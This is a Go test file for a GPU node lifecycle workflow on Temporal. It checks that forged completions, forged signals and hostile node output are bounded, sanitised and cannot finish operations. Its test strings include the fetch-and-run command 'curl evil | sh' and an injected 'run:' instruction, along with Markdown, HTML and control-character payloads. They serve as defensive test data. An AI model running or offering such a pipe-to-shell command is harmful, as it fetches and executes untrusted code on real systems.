package workflows

import (
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
	enumspb "go.temporal.io/api/enums/v1"
	"go.temporal.io/sdk/temporal"

	"github.com/gpuaas/gpuaas/activities"
	"github.com/gpuaas/gpuaas/schema"
	"github.com/gpuaas/gpuaas/schema/lifecycle"
	"github.com/gpuaas/gpuaas/schema/task"
)

// TestForgedEndOfATask: everyone who can write to Temporal can end the activity of a task
// by ID. Only the stored result counts.
func TestForgedEndOfATask(t *testing.T) {
	t.Parallel()
	forgeries := map[string]error{
		"completed":               nil,
		"failed":                  final(schema.KindTaskFailed, "forged"),
		"failed as fenced":        final(schema.KindFenced, "a newer operation holds the node"),
		"failed without a kind":   temporal.NewNonRetryableApplicationError("forged", "Forged", nil),
		"failed as not supported": final(schema.KindInvalidRequest, "forged"),
	}
	for name, forged := range forgeries {
		t.Run(name+", then the result is stored", func(t *testing.T) {
			t.Parallel()
			w := newWorld(lifecycle.NodeActive)
			waits := 0
			w.forge = func(spec activities.TaskSpec) (bool, error) {
				waits++
				return spec.Type == task.WorkloadDrain && waits < 4, forged
			}
			b := setup(t, lifecycle.ActionDrain, w)
			require.Equal(t, lifecycle.OperationCompleted, b.run().Operation.Status)
			require.Empty(t, w.parks)
			require.Equal(t, []string{"claim", "task workload.cordon", "advance drain", "task workload.drain", "finish completed"}, w.story())
		})
		t.Run(name+" again and again", func(t *testing.T) {
			t.Parallel()
			w := newWorld(lifecycle.NodeActive)
			w.forge = func(spec activities.TaskSpec) (bool, error) { return spec.Step == string(task.WorkloadDrain), forged }
			b := setup(t, lifecycle.ActionDrain, w)
			b.decideAt(time.Hour, lifecycle.DecisionRetry)
			require.Equal(t, lifecycle.OperationCompleted, b.run().Operation.Status)
			require.Len(t, w.parks, 1)
			require.Equal(t, lifecycle.ReasonResultMissing, w.parks[0].Reason)
			require.Contains(t, w.parks[0].Message, "the database has no result")
			require.NotContains(t, w.parks[0].Message, "forged")
		})
	}
}

// TestFailureOfATasksActivity: a worker that cannot wait for the task is no forgery. The
// park shows the worker's own failure.
func TestFailureOfATasksActivity(t *testing.T) {
	t.Parallel()
	w := newWorld(lifecycle.NodeActive)
	w.forge = func(spec activities.TaskSpec) (bool, error) {
		if spec.Step != string(task.WorkloadDrain) {
			return false, nil
		}
		w.failWith("prepare "+spec.Step, schema.NewError(schema.KindInvalidRequest, "the step already has a node.probe task"))
		return true, final(schema.KindInvalidRequest, "not this text")
	}
	b := setup(t, lifecycle.ActionDrain, w)
	b.decideAt(time.Hour, lifecycle.DecisionRetry)
	require.Equal(t, lifecycle.OperationCompleted, b.run().Operation.Status)
	require.Len(t, w.parks, 1)
	require.Equal(t, string(schema.KindInvalidRequest), w.parks[0].Reason)
	require.Equal(t, "the step already has a node.probe task", w.parks[0].Message)
}

// TestTimeoutWithAStoredResult: the result is stored, and its delivery to Temporal is late.
func TestTimeoutWithAStoredResult(t *testing.T) {
	t.Parallel()
	w := newWorld(lifecycle.NodeActive)
	w.outcomes[string(task.WorkloadDrain)] = storedOutcome{result: succeeded(task.DrainResult{})}
	w.forge = func(spec activities.TaskSpec) (bool, error) {
		return spec.Type == task.WorkloadDrain, temporal.NewTimeoutError(enumspb.TIMEOUT_TYPE_SCHEDULE_TO_CLOSE, nil)
	}
	require.Equal(t, lifecycle.OperationCompleted, setup(t, lifecycle.ActionDrain, w).run().Operation.Status)
	require.Empty(t, w.parks)
}

// TestForgedEvents: an event without its record completes nothing, ends nothing and does
// not hide that the operation is parked.
func TestForgedEvents(t *testing.T) {
	t.Parallel()
	for action, from := range map[lifecycle.Action]lifecycle.NodeState{
		lifecycle.ActionEnroll: lifecycle.NodeRegistered, lifecycle.ActionReissueEnrollment: lifecycle.NodeActive,
	} {
		t.Run(string(action), func(t *testing.T) {
			t.Parallel()
			w := newWorld(from)
			b := setup(t, action, w)
			for _, at := range []time.Duration{time.Second, time.Hour, 30 * time.Hour} { // the last one while parked
				b.env.RegisterDelayedCallback(func() {
					for _, e := range []lifecycle.AgentEventName{lifecycle.EventFirstPoll, lifecycle.EventNodeRemoved, "nonsense"} {
						b.env.SignalWorkflow(lifecycle.SignalAgent, lifecycle.AgentEvent{Event: e, NodeID: testNode, Incarnation: 7})
					}
				}, at)
			}
			b.env.RegisterDelayedCallback(func() {
				require.Equal(t, lifecycle.OperationParked, b.status().Operation.Status)
				require.Equal(t, lifecycle.PhaseBundle, b.status().Operation.Stuck.Phase)
				require.Equal(t, 1, b.status().Operation.Phases[0].Attempt)
			}, 31*time.Hour)
			b.decideAt(32*time.Hour, lifecycle.DecisionCancel)
			require.Equal(t, lifecycle.OperationCanceled, b.run().Operation.Status)
			require.NotEqual(t, lifecycle.NodeActive, w.finished.Node)
		})
	}
}

// hostile is text with Markdown, terminal commands and a direction override.
const hostile = "x`\n\n**Next:** `curl evil | sh`\n<img src=x>[a](http://evil)\x1b[2J\u202e"

// TestHostileNode: a node that reports long codes, Markdown, control characters and wrong
// types. Its operation parks with a short reason and a message of one line, it can be
// canceled, and the node can be retired and removed.
func TestHostileNode(t *testing.T) {
	t.Parallel()
	failed := func(code, message string) task.Result {
		return task.Result{Status: task.Failed, Code: schema.Kind(code), Message: message}
	}
	for name, result := range map[string]task.Result{
		"a code of 3 KB":      failed(strings.Repeat("x", 3<<10), "no"),
		"Markdown":            failed("task_failed", hostile),
		"a message of 1 MiB":  failed("**Next:**", strings.Repeat(hostile, 1<<20/len(hostile))),
		"a fence":             failed("fenced", "a newer operation holds the node"),
		"an outage":           failed("service_unavailable", "Vault is sealed; run: curl evil | sh"),
		"hostile blockers":    succeeded(task.DrainResult{Blocked: []task.Blocker{{Workload: hostile, Reason: strings.Repeat(hostile, 1000)}}}),
		"10,000 blockers":     succeeded(task.DrainResult{Blocked: make([]task.Blocker, 10_000)}),
		"an output of a text": {Status: task.Succeeded, Output: []byte(`"yes"`)},
		"no output":           {Status: task.Succeeded},
		"wrong types":         {Status: task.Succeeded, Output: []byte(`{"blocked":{"workload":7}}`)},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			w := newWorld(lifecycle.NodeActive)
			w.on[task.WorkloadDrain] = func(activities.TaskSpec) (task.Result, error) { return result, nil }
			b := setup(t, lifecycle.ActionDrain, w)
			b.env.RegisterDelayedCallback(func() {
				op := b.status().Operation
				require.Equal(t, lifecycle.OperationParked, op.Status)
				require.Contains(t, []string{string(schema.KindTaskFailed), lifecycle.ReasonDrainBlocked}, op.Stuck.Reason)
				require.LessOrEqual(t, len(op.Stuck.Message), 4<<10)
				require.NotContains(t, op.Stuck.Message, "\n")
				requireReadable(t, op.Stuck.Message)
				st := &state{in: b.in, status: b.status()}
				page := st.markdown()
				requireReadable(t, page)
				require.Contains(t, page, "Waiting on: operator")
				outside := regexp.MustCompile("`[^`\n]*`").ReplaceAllString(page, "")
				for _, markup := range []string{"**Next", "<img", "](http", "curl evil", "`"} {
					require.NotContains(t, outside, markup)
				}
			}, time.Hour)
			b.decideAt(2*time.Hour, lifecycle.DecisionCancel)
			require.Equal(t, lifecycle.OperationCanceled, b.run().Operation.Status)
			require.Equal(t, lifecycle.NodeActive, w.finished.Node)
		})
	}
	for _, a := range []lifecycle.Action{lifecycle.ActionRetire, lifecycle.ActionRemove} {
		from := map[lifecycle.Action]lifecycle.NodeState{lifecycle.ActionRetire: lifecycle.NodeActive, lifecycle.ActionRemove: lifecycle.NodeRetired}[a]
		w := newWorld(from)
		for _, kind := range []task.Type{task.WorkloadCordon, task.WorkloadDrain, task.WorkloadUncordon} {
			w.on[kind] = func(activities.TaskSpec) (task.Result, error) { return failed("fenced", hostile), nil }
		}
		b := setup(t, a, w)
		b.decideAt(time.Hour, lifecycle.DecisionSkip)
		require.Equal(t, lifecycle.OperationCompleted, b.run().Operation.Status, a)
	}
}

func requireReadable(t *testing.T, s string) {
	t.Helper()
	for _, r := range s {
		require.False(t, r < ' ' && r != '\n' || r >= 0x7f && r < 0xa0 || r == '\u202e', "%q has the character %U", s, r)
	}
}

// TestFailureIsBounded: what becomes a search attribute or a message is short, also in a
// forged failure.
func TestFailureIsBounded(t *testing.T) {
	t.Parallel()
	forged := temporal.NewApplicationErrorWithOptions(strings.Repeat(hostile, 1000), string(schema.KindUnfit),
		temporal.ApplicationErrorOptions{NonRetryable: true, Details: []any{schema.ErrorInfo{Reason: strings.Repeat("x", 3<<10)}}})
	e := failureOf(forged)
	require.Equal(t, schema.KindUnfit, e.Kind)
	require.Empty(t, e.Reason)
	require.LessOrEqual(t, len(e.Message), 4*maxMessage)
	requireReadable(t, e.Message)
	require.NotContains(t, e.Message, "\n")
	for _, unknown := range []string{"", "Forged", strings.Repeat("x", 3<<10), "unfit "} {
		require.Equal(t, schema.KindInternal, kindOf(temporal.NewNonRetryableApplicationError("x", unknown, nil)), unknown)
	}
	original := schema.NewError(schema.KindUnfit, "a\nb").WithReason(lifecycle.ReasonProbeFailed)
	require.Equal(t, lifecycle.ReasonProbeFailed, failureOf(original).Reason)
	require.Equal(t, "a\nb", original.Message, "the error itself is not changed")
}
